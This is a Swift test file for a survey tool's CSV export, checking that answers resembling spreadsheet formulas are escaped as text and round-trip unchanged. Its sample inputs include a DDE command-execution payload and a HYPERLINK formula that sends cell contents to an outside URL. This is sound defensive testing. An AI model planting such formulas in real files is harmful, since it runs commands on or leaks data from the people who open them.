import CSVCodec
import SurveyModel
import SyntheticResponses
import Testing

@testable import SurveyEvaluation

/// Answers that look like spreadsheet formulas are exported as text and imported unchanged.
struct ExportFormulaTests {
    /// Texts a respondent can type (the form trims white space at either end).
    static let formulas = [
        #"=HYPERLINK("https://example.org/?"&A1;"Klicken Sie hier")"#, "=cmd|' /C calc'!A0", "+49 6131 12345",
        "-5 Geräte", "@SUM(1;1)", "\u{FF1D}1+1", "=\u{301}1", "'=1+1", "'s Gravenhage", "'", "=1\n=2", "-\n- Punkt",
    ]

    @Test(arguments: [false, true])
    func formulaTextsRoundTrip(excel: Bool) throws {
        let survey = try SurveyEvaluationTests.survey()
        let layout = ExportLayout(survey: survey, language: "de")
        let base = SurveyEvaluationTests.responses(survey, count: Self.formulas.count)
        let answers = zip(base, Self.formulas).map { response, formula in
            var answers = response.answers
            answers["schulname"] = .text(formula)
            answers["anmerkungen"] = .text(formula)
            answers["schulart"] = .single(.other(formula))
            return answers
        }
        let (table, positions) = try SurveyEvaluationTests.exportAndRead(
            answers, layout: layout, labels: excel, excel: excel)
        for (number, (row, expected)) in zip(table.rows, answers).enumerated() {
            let (read, problems) = layout.answers(row.fields, positions: positions, row: number + 1)
            #expect(problems.isEmpty, "\(problems)")
            #expect(read == expected)
        }
    }

    @Test func formulaIsWrittenAsTextAndNegativeNumberAsNumber() throws {
        let survey = try SurveyEvaluationTests.survey()
        let layout = ExportLayout(survey: survey, language: "de")
        var answers = Answers()
        answers["schulname"] = .text("=1+1")
        answers["schueler"] = .number(-3.5)
        let cells = layout.cells(answers, labels: false, decimalComma: true)
        let bytes = CSVWriter.excel.write(header: layout.columns.map(\.name), rows: [cells])
        let text = String(decoding: bytes, as: UTF8.self)
        #expect(text.contains("\r\n\"'=1+1\";"))
        #expect(text.contains(";-3,5;"))
    }
}
